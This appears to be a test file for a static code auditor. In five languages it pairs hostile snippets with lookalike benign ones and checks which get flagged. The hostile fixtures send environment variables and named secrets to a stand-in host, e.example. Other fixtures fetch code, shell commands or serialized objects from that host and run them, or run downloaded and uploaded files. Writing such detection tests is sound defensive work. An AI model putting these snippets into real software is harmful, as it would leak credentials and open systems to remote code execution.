"""Code that sends the environment away, or runs what a server sends, in five languages; each beside code that looks like it."""

from __future__ import annotations

from pathlib import Path

import pytest

from auditor.domain import Evidence
from tests.adversarial.authors.drawing import CODE, LOADING, SENT, SHELL, Case, evidence_by_case
from tests.adversarial.authors.flow_cases import assert_is_silent, assert_way_is_told, names

PYTHON: list[Case] = [
    ('the environment as JSON', SENT, 'import os, requests\ndef f():\n    requests.post("https://e.example", json=dict(os.environ), timeout=5)\n', 'import os, requests\ndef f():\n    requests.post("https://e.example", json={"region": os.environ["REGION"]}, timeout=5)\n'),
    ('the environment in bytes', SENT, 'import os, json, urllib.request\ndef f():\n    data = json.dumps({**os.environ}).encode()\n    urllib.request.urlopen("https://e.example", data=data, timeout=5)\n', 'import os, json, subprocess\ndef f(a):\n    subprocess.run(["ls", json.dumps(a)], env={**os.environ}, check=True)\n'),
    ('the environment through a socket', SENT, 'import os, socket\ns = socket.create_connection(("e.example", 80), timeout=3)\ns.sendall(str(os.environ).encode())\n', 'import os, socket\ns = socket.create_connection((os.environ["HOST"], 80), timeout=3)\ns.sendall(b"ping")\n'),
    ('variable by variable', SENT, 'import os, requests\ndef f():\n    for key in os.environ:\n        requests.get("https://e.example/" + os.environ[key], timeout=5)\n', 'import os, requests\ndef f():\n    for key in ("REGION", "STAGE"):\n        requests.get("https://e.example/" + os.environ[key], timeout=5)\n'),
    ('a table that is filled', SENT, 'import os, httpx\ndef f():\n    body = {"v": 1}\n    body["env"] = dict(os.environ)\n    httpx.post("https://e.example", json=body, timeout=5)\n', 'import os, httpx\ndef f():\n    body = {"v": 1}\n    body["env"] = os.environ.get("STAGE")\n    httpx.post("https://e.example", json=body, timeout=5)\n'),
    ('a key of the cloud', SENT, 'import os, requests\ndef f():\n    requests.get(f"https://e.example/?k={os.environ[\'AWS_SECRET_ACCESS_KEY\']}", timeout=5)\n', 'import os, requests\ndef f():\n    requests.get("https://e.example/", headers={"Authorization": os.environ["SHOP_TOKEN"]}, timeout=5)\n'),
    ('the environment as an answer', SENT, 'import os\nfrom flask import jsonify\ndef f():\n    return jsonify(dict(os.environ))\n', 'import os\nfrom flask import jsonify\ndef f():\n    return jsonify({"stage": os.environ["STAGE"]})\n'),
    ('a helper of the file', SENT, 'import os, requests\ndef send(data):\n    requests.post("https://e.example", json=data, timeout=5)\ndef f():\n    send(os.environ.copy())\n', 'import os, requests\ndef send(data):\n    requests.post("https://e.example", json=data, timeout=5)\ndef f():\n    send({"stage": os.environ.get("STAGE", "dev")})\n'),
    ('code from a server', CODE, 'import requests\nexec(requests.get("https://e.example/x.py", timeout=5).text)\n', 'import requests\nimport json\nx = json.loads(requests.get("https://e.example/x.json", timeout=5).text)\n'),
    ('compiled code from a server', CODE, 'import urllib.request\ndef f():\n    with urllib.request.urlopen("https://e.example/x.py", timeout=5) as answer:\n        exec(compile(answer.read(), "x", "exec"))\n', 'import urllib.request\ndef f():\n    with urllib.request.urlopen("https://e.example/x.py", timeout=5) as answer:\n        return compile(answer.read(), "x", "exec")\n'),
    ('a module that a server names', CODE, 'import importlib, httpx\ndef f():\n    importlib.import_module(httpx.get("https://e.example", timeout=5).json()["module"])\n', 'import importlib, httpx\ndef f():\n    name = httpx.get("https://e.example", timeout=5).json()["module"]\n    if name in {"csv", "json"}:\n        importlib.import_module(name)\n'),
    ('a pickle from a server', LOADING, 'import pickle, requests\ndef f():\n    return pickle.loads(requests.get("https://e.example/m", timeout=5).content)\n', 'import json, requests\ndef f():\n    return json.loads(requests.get("https://e.example/m", timeout=5).content)\n'),
    ('a command from a server', SHELL, 'import os, requests\ndef f():\n    os.system(requests.get("https://e.example/s", timeout=5).text)\n', 'import subprocess, requests\ndef f():\n    subprocess.run(["echo", requests.get("https://e.example/s", timeout=5).text], check=True)\n'),
]  # fmt: skip
JAVASCRIPT: list[Case] = [
    ('the environment in a body', SENT, 'async function f() {\n  await fetch("https://e.example", {method: "POST", body: JSON.stringify(process.env)});\n}\n', 'async function f() {\n  await fetch("https://e.example", {method: "POST", body: JSON.stringify({stage: process.env.STAGE})});\n}\n'),
    ('the environment as data', SENT, "const axios = require('axios');\naxios.post('https://e.example', process.env);\n", "const axios = require('axios');\nconst cp = require('child_process');\naxios.post('https://e.example', {a: 1});\ncp.execFile('ls', [], {env: process.env});\n"),
    ('the environment piece by piece', SENT, "const https = require('https');\nconst req = https.request({host: 'e.example', method: 'POST'});\nreq.write(Object.entries(process.env).map(([k, v]) => k + v).join());\n", "const https = require('https');\nconst {HOST} = process.env;\nconst req = https.request({host: HOST, method: 'POST'});\nreq.write(Object.entries({a: 1}).map(([k, v]) => k + v).join());\n"),
    ('a secret that is taken out', SENT, 'const {DATABASE_URL} = process.env;\nfetch("https://e.example/?" + DATABASE_URL);\n', 'const {API_URL} = process.env;\nfetch(API_URL + "/x");\n'),
    ('code from a server', CODE, 'async function f(u) {\n  eval(await (await fetch(u)).text());\n}\n', 'async function f(u) {\n  return JSON.parse(await (await fetch(u)).text());\n}\n'),
    ('a function from a server', CODE, "const axios = require('axios');\nasync function f() {\n  const {data} = await axios.get('https://e.example/x.js');\n  new Function(data)();\n}\n", "const axios = require('axios');\nasync function f() {\n  const {data} = await axios.get('https://e.example/x.js');\n  return new Map(data);\n}\n"),
    ('a command from a server', SHELL, "const cp = require('child_process');\nasync function f() {\n  const r = await fetch('https://e.example/x');\n  cp.execSync(await r.text());\n}\n", "const cp = require('child_process');\nasync function f() {\n  const r = await fetch('https://e.example/x');\n  cp.execFileSync('echo', [await r.text()]);\n}\n"),
]  # fmt: skip
GO: list[Case] = [
    ('the environment in a body', SENT, 'package main\nimport (\n\t"net/http"\n\t"os"\n\t"strings"\n)\nfunc f() { http.Post("https://e.example", "text/plain", strings.NewReader(strings.Join(os.Environ(), "\\n"))) }\n', 'package main\nimport (\n\t"net/http"\n\t"os"\n\t"os/exec"\n\t"strings"\n)\nfunc f() {\n\tc := exec.Command("ls")\n\tc.Env = os.Environ()\n\thttp.Post("https://e.example", "text/plain", strings.NewReader(os.Getenv("STAGE")))\n}\n'),
    ('the environment as JSON', SENT, 'package main\nimport (\n\t"bytes"\n\t"encoding/json"\n\t"net/http"\n\t"os"\n)\nfunc f() {\n\tb, _ := json.Marshal(os.Environ())\n\treq, _ := http.NewRequest("POST", "https://e.example", bytes.NewReader(b))\n\thttp.DefaultClient.Do(req)\n}\n', 'package main\nimport (\n\t"bytes"\n\t"encoding/json"\n\t"net/http"\n\t"os"\n)\nfunc f() {\n\tb, _ := json.Marshal(len(os.Environ()))\n\treq, _ := http.NewRequest("POST", "https://e.example", bytes.NewReader(b))\n\thttp.DefaultClient.Do(req)\n}\n'),
    ('a command from a server', SHELL, 'package main\nimport (\n\t"io"\n\t"net/http"\n\t"os/exec"\n)\nfunc f() {\n\tr, _ := http.Get("https://e.example/x")\n\tb, _ := io.ReadAll(r.Body)\n\texec.Command("sh", "-c", string(b)).Run()\n}\n', 'package main\nimport (\n\t"io"\n\t"net/http"\n\t"os/exec"\n)\nfunc f() {\n\tr, _ := http.Get("https://e.example/x")\n\tb, _ := io.ReadAll(r.Body)\n\texec.Command("echo", string(b)).Run()\n}\n'),
]  # fmt: skip
JAVA: list[Case] = [
    ('the environment in a body', SENT, 'import java.net.http.*;\nimport java.net.URI;\nclass A {\n  HttpRequest f() {\n    return HttpRequest.newBuilder(URI.create("https://e.example")).POST(HttpRequest.BodyPublishers.ofString(System.getenv().toString())).build();\n  }\n}\n', 'import java.net.http.*;\nimport java.net.URI;\nclass A {\n  HttpRequest f() {\n    return HttpRequest.newBuilder(URI.create("https://e.example")).POST(HttpRequest.BodyPublishers.ofString(System.getenv("STAGE") + System.getenv().get("HOME"))).build();\n  }\n}\n'),
    ('a secret in a body', SENT, 'import java.net.http.*;\nclass A {\n  Object f() {\n    return HttpRequest.BodyPublishers.ofString(System.getenv("DATABASE_URL"));\n  }\n}\n', 'import java.net.http.*;\nclass A {\n  Object f() {\n    return HttpRequest.BodyPublishers.ofString(System.getenv("SHOP_URL"));\n  }\n}\n'),
    ('objects from a server', LOADING, 'import java.io.*;\nimport java.net.URL;\nclass A {\n  Object f() throws Exception {\n    return new ObjectInputStream(new URL("https://e.example/x").openStream()).readObject();\n  }\n}\n', 'import java.io.*;\nimport java.net.URL;\nclass A {\n  Object f() throws Exception {\n    return new BufferedReader(new InputStreamReader(new URL("https://e.example/x").openStream())).readLine();\n  }\n}\n'),
    ('code from a server', CODE, 'import java.net.http.*;\nimport javax.script.*;\nclass A {\n  Object f(HttpRequest q) throws Exception {\n    HttpClient c = HttpClient.newHttpClient();\n    HttpResponse<String> r = c.send(q, HttpResponse.BodyHandlers.ofString());\n    return new ScriptEngineManager().getEngineByName("js").eval(r.body());\n  }\n}\n', 'import java.net.http.*;\nclass A {\n  String f(HttpRequest q) throws Exception {\n    HttpClient c = HttpClient.newHttpClient();\n    HttpResponse<String> r = c.send(q, HttpResponse.BodyHandlers.ofString());\n    return r.body();\n  }\n}\n'),
]  # fmt: skip
RUBY: list[Case] = [
    ('the environment in a body', SENT, 'require "net/http"\nNet::HTTP.post(URI("https://e.example"), ENV.to_h.to_json)\n', 'require "net/http"\nNet::HTTP.post(URI("https://e.example"), ENV.fetch("STAGE").to_json)\n'),
    ('a secret in an address', SENT, 'require "net/http"\nNet::HTTP.get(URI("https://e.example/?k=#{ENV["SECRET_KEY_BASE"]}"))\n', 'require "net/http"\nNet::HTTP.get(URI("https://e.example/?k=#{ENV["STAGE"]}"))\n'),
    ('the environment by keyword', SENT, 'require "httparty"\nHTTParty.post("https://e.example", body: ENV.to_h)\n', 'require "httparty"\nHTTParty.post("https://e.example", body: ENV.slice("STAGE"))\n'),
    ('code from a server', CODE, 'require "open-uri"\neval(URI.open("https://e.example/x.rb").read)\n', 'require "open-uri"\nputs(URI.open("https://e.example/x.rb").read)\n'),
    ('objects from a server', LOADING, 'require "net/http"\nMarshal.load(Net::HTTP.get(URI("https://e.example/x")))\n', 'require "net/http"\nrequire "json"\nJSON.parse(Net::HTTP.get(URI("https://e.example/x")))\n'),
]  # fmt: skip
BY_SUFFIX = {"py": PYTHON, "js": JAVASCRIPT, "go": GO, "java": JAVA, "rb": RUBY}
EACH = [(suffix, number) for suffix, cases in BY_SUFFIX.items() for number in range(len(cases))]
NAMES = [f"{suffix} {name}" for suffix, cases in BY_SUFFIX.items() for name in names(cases)]


@pytest.fixture(scope="module")
def found(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, list[Evidence]]]:
    """What is found in each file, by the suffix of its language."""
    folder: Path = tmp_path_factory.mktemp("shops")
    return {suffix: evidence_by_case(folder / suffix, cases, suffix) for suffix, cases in BY_SUFFIX.items()}


@pytest.mark.parametrize(("suffix", "number"), EACH, ids=NAMES)
def test_what_is_sent_away_or_downloaded_to_be_run_is_confirmed_with_its_way(
    suffix: str, number: int, found: dict[str, dict[str, list[Evidence]]]
) -> None:
    assert_way_is_told(found[suffix], number, BY_SUFFIX[suffix][number], suffix)


@pytest.mark.parametrize(("suffix", "number"), EACH, ids=NAMES)
def test_one_variable_and_data_of_a_server_that_is_only_read_are_fine(
    suffix: str, number: int, found: dict[str, dict[str, list[Evidence]]]
) -> None:
    assert_is_silent(found[suffix], number, suffix)


@pytest.mark.parametrize("answer", ["res.json(process.env)", "res.send({all: {...process.env}})"])
def test_the_environment_as_an_answer_is_a_likely_finding(answer: str, tmp_path: Path) -> None:
    source = f"const app = require('express')();\napp.get('/', (req, res) => {answer});\n"
    benign = source.replace("process.env", "process.env.STAGE").replace("...", "a: ")
    found = evidence_by_case(tmp_path, [("answer", SENT, source, benign)], "js")
    (finding,) = found["shop0/hostile.js"]
    assert (finding.probe, finding.confidence) == (SENT, 0.7)
    assert found["shop0/benign.js"] == []


def test_variables_that_a_condition_chooses_are_a_possible_finding(tmp_path: Path) -> None:
    source = 'import os, requests\nrequests.post("https://e.example", json={k: v for k, v in os.environ.items() if "KEY" in k}, timeout=5)\n'
    (finding,) = evidence_by_case(tmp_path, [("chosen", SENT, source, "")])["shop0/hostile.py"]
    assert (finding.probe, finding.confidence) == (SENT, 0.5)


@pytest.mark.parametrize(
    ("hostile", "benign"),
    [
        ('request.args["f"].format(user=user)', '"{}".format(request.args["f"])'),
        ('(request.args["f"] + "{}").format_map(user)', '"{f}".format_map(request.args)'),
        ('str.format(request.args["f"], user)', 'str.format("{}", request.args["f"])'),
        ('string.Formatter().vformat(request.args["f"], (user,), {})', 'string.Formatter().format("{}", request.args)'),
    ],
)
def test_a_format_string_of_an_outsider_is_likely_to_leak_what_its_arguments_hold(
    hostile: str, benign: str, tmp_path: Path
) -> None:
    begin = "import string\nfrom flask import request\ndef f(user):\n    return "
    found = evidence_by_case(tmp_path, [("format", CODE, f"{begin}{hostile}\n", f"{begin}{benign}\n")])
    (finding,) = found["shop0/hostile.py"]
    assert finding.probe == CODE
    assert 0.6 <= finding.confidence < 0.8
    assert found["shop0/benign.py"] == []


FETCH = "import os, pathlib, runpy, shutil, subprocess, sys, importlib, hashlib, tempfile\nimport requests, urllib.request\nfrom flask import request\n"
BODY = 'requests.get("https://e.example/x", timeout=5)'
WRITTEN: list[Case] = [
    ('written and started', SHELL, f'def f():\n    with open("/tmp/plug.py", "wb") as out:\n        out.write({BODY}.content)\n    subprocess.run([sys.executable, "/tmp/plug.py"], check=True)\n', f'def f():\n    with open("/tmp/data.csv", "wb") as out:\n        out.write({BODY}.content)\n    subprocess.run([sys.executable, "/srv/plug.py"], check=True)\n'),
    ('fetched and started', SHELL, 'def f():\n    path = pathlib.Path.home() / "tool"\n    urllib.request.urlretrieve("https://e.example/x", path)\n    os.chmod(path, 0o755)\n    subprocess.run([str(path), "-v"], check=True)\n', 'def f():\n    path = pathlib.Path.home() / "data"\n    urllib.request.urlretrieve("https://e.example/x", path)\n    subprocess.run(["ls", "-v"], check=True)\n    return path\n'),
    ('written and imported', CODE, f'def f():\n    pathlib.Path("plug.py").write_text({BODY}.text)\n    importlib.import_module("plug")\n', f'def f():\n    pathlib.Path("plug.json").write_text({BODY}.text)\n    importlib.import_module("json")\n'),
    ('uploaded and run', CODE, 'def f():\n    up = request.files["f"]\n    up.save("/srv/x.py")\n    runpy.run_path("/srv/x.py")\n', 'def f():\n    request.files["f"].stream.read()\n    runpy.run_path("/srv/x.py")\n'),
    ('a temporary file', SHELL, f'def f():\n    with tempfile.NamedTemporaryFile(delete=False) as out:\n        out.write({BODY}.content)\n    subprocess.run(["bash", out.name], check=True)\n', 'def f():\n    with tempfile.NamedTemporaryFile(delete=False) as out:\n        out.write(b"echo 1")\n    subprocess.run(["bash", out.name], check=True)\n'),
    ('copied from an answer', SHELL, 'def f(path):\n    with urllib.request.urlopen("https://e.example/x", timeout=5) as answer, open(path, "wb") as out:\n        shutil.copyfileobj(answer, out)\n    subprocess.check_call(["sh", path])\n', 'def f(path, other):\n    with urllib.request.urlopen("https://e.example/x", timeout=5) as answer, open(path, "wb") as out:\n        shutil.copyfileobj(answer, out)\n    subprocess.check_call(["sh", other])\n'),
]  # fmt: skip


def test_a_file_that_is_downloaded_or_uploaded_and_then_run_is_a_likely_finding(tmp_path: Path) -> None:
    cases = [(name, probe, FETCH + hostile, FETCH + benign) for name, probe, hostile, benign in WRITTEN]
    found = evidence_by_case(tmp_path, cases)
    for number, (name, probe, *_) in enumerate(WRITTEN):
        flows = [each for each in found[f"shop{number}/hostile.py"] if " reaches `" in each.statement]
        assert [each.probe for each in flows] == [probe], name
        assert 0.6 <= flows[0].confidence < 0.8, name
        assert [each.statement for each in found[f"shop{number}/benign.py"] if " reaches `" in each.statement] == []


def test_a_download_whose_digest_is_worked_out_before_it_runs_is_only_possible(tmp_path: Path) -> None:
    check = "    if hashlib.sha256(body).hexdigest() != wanted:\n        raise ValueError(path)\n"
    run = "    pathlib.Path(path).write_bytes(body)\n    subprocess.run([path], check=True)\n"
    source = f"{FETCH}def f(path, wanted):\n    body = {BODY}.content\n{check}{run}"
    (finding,) = evidence_by_case(tmp_path, [("checked", SHELL, source, "")])["shop0/hostile.py"]
    assert finding.confidence <= 0.5
